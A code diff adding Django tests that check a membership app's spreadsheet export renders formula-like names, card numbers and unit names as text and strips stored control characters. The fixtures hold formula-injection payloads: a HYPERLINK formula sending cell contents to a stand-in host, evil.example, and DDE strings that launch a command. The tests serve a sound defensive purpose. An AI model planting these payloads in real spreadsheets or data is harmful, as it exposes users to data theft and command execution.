@@ -12,7 +12,7 @@ from django.test import Client
 from openpyxl import load_workbook
 
 from quantriet.orgs import imports
-from quantriet.orgs.models import AccessLog, Member
+from quantriet.orgs.models import AccessLog, Member, Unit
 from tests.conftest import World, make_member
 from tests.orgs.import_fixtures import run_cli
 
@@ -140,3 +140,44 @@ def test_members_left_in_a_dissolved_cell_reimport_but_nobody_new_joins_it(
     sheet.save(path)
     status, out = run_cli("import", "members", str(path), "--scope", "XA")
     assert status == 1 and "Đơn vị “Chi bộ thôn Cũ” đã giải thể hoặc sáp nhập" in out
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?u="&A5,"Chi bộ thôn Tây")'
+CALC = "=cmd|' /C calc'!A0"
+
+
+def test_names_card_numbers_and_unit_names_that_look_like_formulas_are_exported_as_text(
+    world: World,
+) -> None:
+    alice = world.client_for(world.alice)
+    renamed = alice.post(f"/units/{world.xa1.pk}/rename/", {"new_name": HYPERLINK, "date": "01/07/2025"})
+    assert renamed.status_code == 302
+    # Names and card numbers as an API or import path before its checks could have stored them.
+    Member.objects.filter(pk=world.m_xa1.pk).update(full_name=CALC, card_number="+cmd|' /C calc'!A0")
+    Member.objects.filter(pk=world.m_xa2.pk).update(
+        full_name="@SUM(1+1)*cmd|' /C calc'!A0", card_number="-1+2"
+    )
+    sheet = _cells(_export(alice, unit=world.xa.pk))
+    rows = {row[0].value: row for row in sheet.iter_rows(min_row=4)}
+    an = rows[CALC]
+    assert [(c.value, c.data_type) for c in (an[0], an[5], an[7])] == [
+        (CALC, "s"),
+        ("+cmd|' /C calc'!A0", "s"),
+        (HYPERLINK, "s"),
+    ]
+    binh = rows["@SUM(1+1)*cmd|' /C calc'!A0"]
+    assert (binh[0].data_type, binh[5].value, binh[5].data_type) == ("s", "-1+2", "s")
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_control_characters_already_stored_do_not_break_the_export(world: World) -> None:
+    # Stored before input was cleaned: the export drops what a spreadsheet cannot hold instead of a 500.
+    Member.objects.filter(pk=world.m_xa1.pk).update(
+        full_name="Nguyễn\x01 Văn An\x1f", card_number="1000\x000"
+    )
+    Unit.objects.filter(pk=world.xa1.pk).update(name="Chi bộ\x01 thôn 1\x0b")
+    response = _export(world.client_for(world.alice), unit=world.xa.pk, q="\x00\x01")
+    assert response.status_code == 200
+    rows = _rows(response)
+    an = next(r for r in rows[3:] if r[0] == "Nguyễn Văn An")
+    assert (an[5], an[7]) == ("10000", "Chi bộ thôn 1")
